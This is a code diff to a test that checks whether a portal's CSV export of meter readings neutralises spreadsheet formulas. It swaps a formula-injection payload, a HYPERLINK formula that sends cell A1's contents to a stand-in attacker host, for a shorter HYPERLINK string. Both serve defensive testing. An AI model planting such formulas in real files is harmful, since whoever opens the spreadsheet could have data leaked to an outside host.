@@ -223,7 +223,7 @@ def test_the_csv_writes_formula_like_text_as_text(client, personas):
 
     history(personas.alice_cold, "10", "21.5")
     meter = personas.alice_cold
-    meter.serial_number = '=HYPERLINK("http://evil.example/?"&A1;"open")'
+    meter.serial_number = '=HYPERLINK("http://e.x";"o")'  # within the field's 40 characters
     meter.save()
     client.force_login(personas.alice)
     text = client.get(reverse("portal:readings-history-csv")).content.decode("utf-8-sig")
